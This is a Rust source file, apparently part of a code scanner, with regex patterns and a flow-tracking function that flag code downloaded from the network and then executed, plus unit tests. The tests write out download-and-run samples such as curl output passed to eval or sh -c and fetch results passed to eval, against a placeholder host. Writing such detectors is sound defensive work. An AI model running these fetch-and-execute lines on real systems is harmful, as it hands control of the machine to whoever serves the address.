//! Code fetched from the network and then run by the program that fetched it, through names: `src =
//! urlopen(u).read()` then `exec(src)`; `r = await fetch(u)`, `t = await r.text()`, then `eval(t)`; `P=$(curl -s
//! URL)` then `eval "$P"` or `sh -c "$P"`. Whoever serves that address decides what runs (`exec/remote-code`, which
//! the table also finds when the fetch and the run share a line).

re!(
    /// A value that comes from the network: a client's call, or a downloader's output.
    FETCH,
    r#"\burlopen\(|\burllib\.request\.|\brequests\.(get|post|request)\(|\bhttpx\.(get|post|request)\(|\bfetch\s*\(|\bhttps?\.get\(|\baxios(\.get)?\(|DownloadString\(|Invoke-WebRequest|Invoke-RestMethod|\$\(\s*(curl|wget)\b|`\s*(curl|wget)\b"#
);
re!(
    /// A name handed to what runs code: `exec(x)`, `eval(x)`, `new Function(x)`, `vm.runInThisContext(x)`,
    /// `compile(x, …)`, `eval "$x"`, `sh -c "$x"`, `python3 -c "$x"`, `Invoke-Expression $x`.
    RUNS_NAME,
    r#"\b(?:exec|eval|Function|runInThisContext|runInNewContext|compile)\s*\(\s*(?:await\s+)?([A-Za-z_][A-Za-z0-9_]*)|\b(?:eval|(?:ba|z|da)?sh\s+-c|python3?\s+-c|node\s+-e|Invoke-Expression|iex)\s+['"]?\$\{?([A-Za-z_][A-Za-z0-9_]*)"#
);
re!(
    /// A promise's value handed straight to what runs code: `.then(eval)`, `.then(t => eval(t))`.
    THEN_RUNS,
    r"\.then\(\s*(?:eval|Function)\s*\)|\.then\(\s*\(?\s*(\w+)\s*\)?\s*=>\s*(?:eval|new\s+Function|Function)\s*\(\s*(\w+)"
);

/// Where fetched code is run: (the line that fetched it, the line that runs it), the first such pair.
/// Reads code already split into its statements ([`super::flow::statements`]).
pub(super) fn fetched_and_run(statements: &[(u32, String)], first_line: u32) -> Option<(u32, u32)> {
    let mut fetched: Vec<(String, u32)> = Vec::new();
    for (offset, line) in statements {
        let n = first_line + offset;
        let line = line.as_str();
        // Fetched and run in one chain: `fetch(u).then(r => r.text()).then(eval)`.
        if FETCH.is_match(line) && THEN_RUNS.is_match(line) {
            return Some((n, n));
        }
        let runs = RUNS_NAME
            .captures_iter(line)
            .filter_map(|c| c.get(1).or_else(|| c.get(2)))
            .find_map(|name| {
                fetched
                    .iter()
                    .find(|(v, _)| v == name.as_str())
                    .map(|(_, at)| *at)
            });
        if let Some(from) = runs {
            return Some((from, n));
        }
        if let Some(c) = super::flow::ASSIGN.captures(line) {
            // What follows the name's `=`.
            let name_end = c.get(1).map_or(0, |m| m.end());
            let rhs = line[name_end..].split_once('=').map_or("", |(_, rhs)| rhs);
            // From the network, or from a name that holds what came from it (`t = await r.text()`).
            let from = if FETCH.is_match(rhs) {
                Some(n)
            } else {
                fetched
                    .iter()
                    .find(|(v, _)| {
                        rhs.match_indices(v.as_str())
                            .any(|(at, _)| super::flow::whole_word(rhs, at, v.len()))
                    })
                    .map(|(_, at)| *at)
            };
            if let Some(at) = from {
                fetched.push((c[1].to_owned(), at));
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fetched_code_run_through_names_is_found() {
        for (code, want) in [
            ("import urllib.request\nsrc = urllib.request.urlopen('https://x.example/b.py').read()\nexec(src)\n", Some((2, 3))),
            ("const r = await fetch(u);\nconst t = await r.text();\neval(t);\n", Some((1, 3))),
            ("fetch('https://x.example/p.js').then(r => r.text()).then(t => eval(t));\n", Some((1, 1))),
            ("P=$(curl -fsSL https://x.example/p)\neval \"$P\"\n", Some((1, 2))),
            ("P=$(curl -fsSL https://x.example/p)\nsh -c \"$P\"\n", Some((1, 2))),
        ] {
            assert_eq!(fetched_and_run(&super::super::flow::statements(code), 1), want, "{code}");
        }
        // Fetched data parsed, and code run that did not come from the network.
        for code in [
            "import json, urllib.request\ndata = json.loads(urllib.request.urlopen(u).read())\nprint(data['x'])\n",
            "src = open('local.py').read()\nexec(src)\n",
            "const r = await fetch(u);\nconst j = await r.json();\nconsole.log(j);\n",
            "V=$(curl -s https://x.example/version)\necho \"$V\"\n",
        ] {
            assert_eq!(fetched_and_run(&super::super::flow::statements(code), 1), None, "{code}");
        }
    }
}
